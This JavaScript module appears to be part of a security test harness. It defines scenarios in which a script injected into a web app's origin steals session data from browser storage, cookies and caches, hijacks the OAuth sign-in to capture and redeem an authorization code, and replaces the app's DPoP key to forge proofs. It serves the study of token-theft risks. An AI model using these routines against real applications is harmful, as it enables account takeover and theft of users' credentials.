// What is stored.
import {
  base64url,
  codeIn,
  databases,
  element,
  hiddenFrame,
  onNavigation,
  put,
  soon,
  transactionUnderWay,
} from '../kit.mjs';
import { onPagesOrigin, whenever } from '../reasons.mjs';

/** Reads everything under a directory of the origin's private file system. */
async function files(directory, record) {
  for await (const [name, handle] of directory.entries()) {
    record(name);
    if (handle.kind === 'file') record(await handle.getFile());
    else await files(handle, record);
  }
}

const bytesOf = (text) => new TextEncoder().encode(text);

/** A proof for a request with `token` that the script has a private key (RFC 9449 section 4.2). */
async function proof({ publicKey, privateKey }, htm, htu, token) {
  const { crv, kty, x, y } = await crypto.subtle.exportKey('jwk', publicKey);
  const ath = base64url(await crypto.subtle.digest('SHA-256', bytesOf(token)));
  const header = { typ: 'dpop+jwt', alg: 'ES256', jwk: { crv, kty, x, y } };
  const claims = { jti: crypto.randomUUID(), htm, htu, iat: Math.floor(Date.now() / 1000), ath };
  const signed = [header, claims].map((part) => base64url(bytesOf(JSON.stringify(part)))).join('.');
  const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, privateKey, bytesOf(signed));
  return `${signed}.${base64url(signature)}`;
}

/** Where a script keeps a key of its own across page loads. */
const OWN_KEY = { database: 'mine', store: 'keys', key: 'mine' };

export const storage = [
  {
    id: 'storage-web',
    title: 'reads localStorage and sessionStorage, while the app uses its session and after',
    when: 'both',
    async run({ record, victim, hooks }) {
      hooks.tapAll(Storage.prototype, ['setItem', 'getItem']);
      await victim();
      for (const each of [localStorage, sessionStorage]) record({ ...each });
    },
  },
  {
    id: 'storage-events',
    title: 'listens to storage events in a frame of its own',
    when: 'both',
    async run({ record, victim, undo }) {
      const frame = element('iframe', {}, undo, document.documentElement);
      frame.contentWindow.addEventListener('storage', ({ key, newValue, oldValue }) =>
        record([key, newValue, oldValue]),
      );
      await victim();
    },
  },
  {
    id: 'storage-indexeddb',
    title: 'reads every entry of every IndexedDB database, again and again while the app uses its session',
    when: 'both',
    async run({ record, victim }) {
      let over = false;
      const reading = (async () => {
        while (!over) record(await databases());
      })();
      await victim();
      over = true;
      await reading;
      record(await databases());
    },
  },
  {
    id: 'storage-indexeddb-hooks',
    title: 'replaces the methods of IndexedDB',
    when: 'both',
    async run({ tap, victim, hooks }) {
      hooks.tapAll(IDBObjectStore.prototype, ['put', 'add', 'get', 'getAll']);
      hooks.tapAll(IDBFactory.prototype, ['open', 'databases']);
      tap(IDBRequest.prototype, 'result');
      await victim();
    },
  },
  {
    id: 'storage-transaction',
    title:
      'has the app leave for the provider and keeps it from leaving, reads the verifier from IndexedDB, and goes where the app was to go in a frame of its own',
    when: 'both',
    async run({ session, victim, undo, thief }) {
      await victim('fetch');
      let url;
      const stay = (event) => {
        url = event.destination.url;
        event.preventDefault();
      };
      onNavigation(stay, undo);
      const app = await session();
      app.signIn({ params: { prompt: 'none' } }).catch(() => {});
      if (!(await soon(() => url))) return;
      const { code_verifier, redirect_uri } =
        (await soon(() => transactionUnderWay(new URL(url).searchParams.get('state')))) ?? {};
      const frame = hiddenFrame(url, undo);
      const code = await codeIn(frame.contentWindow);
      frame.contentWindow.stop();
      await thief.redeem(code, code_verifier, redirect_uri);
    },
    lost: whenever(onPagesOrigin('redirect')),
  },
  {
    id: 'storage-dpop-key',
    title:
      'replaces the key of DPoP proofs in IndexedDB by one of its own, loads the page anew, and proves possession of that key along with guessed tokens',
    when: 'after',
    options: { dpop: true },
    async run({ record, leaving }) {
      const own = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, ['sign', 'verify']);
      for (const entry of await databases()) {
        record(entry);
        if (entry.value?.privateKey) await put({ ...entry, value: own });
      }
      await put({ ...OWN_KEY, value: own });
      await leaving();
      location.reload();
      await new Promise(() => {});
    },
    async returns({ record, victim, undo, thief, config }) {
      await victim();
      const entries = await databases();
      const { value: own } = entries.find(({ database }) => database === OWN_KEY.database);
      undo(() => {
        for (const { database } of entries) indexedDB.deleteDatabase(database);
      });
      record(entries);
      const { token_endpoint } = await thief.metadata();
      const body = new URLSearchParams({
        grant_type: 'refresh_token',
        refresh_token: 'guess',
        client_id: config.clientId,
      });
      const tokens = { DPoP: await proof(own, 'POST', token_endpoint, 'guess') };
      record(await fetch(token_endpoint, { method: 'POST', headers: tokens, body }).catch((error) => error));
      const orders = `${config.api}orders`;
      const call = { DPoP: await proof(own, 'GET', orders, 'guess'), Authorization: 'DPoP guess' };
      record(await fetch(orders, { headers: call }).catch((error) => error));
    },
  },
  {
    id: 'storage-cookies',
    title: 'reads cookies, by document.cookie and by the cookie store',
    when: 'both',
    async run({ record, victim, tap }) {
      tap(Document.prototype, 'cookie');
      await victim();
      record(document.cookie);
      record(await window.cookieStore?.getAll());
    },
  },
  {
    id: 'storage-cache',
    title: 'reads every response in the Cache storage',
    when: 'both',
    async run({ record, victim, hooks }) {
      hooks.tapAll(Cache.prototype, ['put', 'add', 'match']);
      await victim();
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) record([request, await cache.match(request)]);
      }
    },
  },
  {
    id: 'storage-http-cache',
    title: 'asks the HTTP cache for answers of the provider and the API',
    when: 'after',
    async run({ record, victim, thief, config }) {
      await victim();
      const { token_endpoint, userinfo_endpoint } = await thief.metadata();
      for (const url of [token_endpoint, userinfo_endpoint, `${config.api}orders`]) {
        record(await fetch(url, { cache: 'force-cache' }).catch(() => undefined));
        record(await fetch(url, { cache: 'force-cache', credentials: 'include' }).catch(() => undefined));
      }
    },
  },
  {
    id: 'storage-files',
    title: 'reads the origin’s private file system and its storage buckets',
    when: 'after',
    async run({ record, victim }) {
      await victim();
      await files(await navigator.storage.getDirectory(), record);
      for (const name of (await navigator.storageBuckets?.keys()) ?? []) record(name);
    },
  },
];
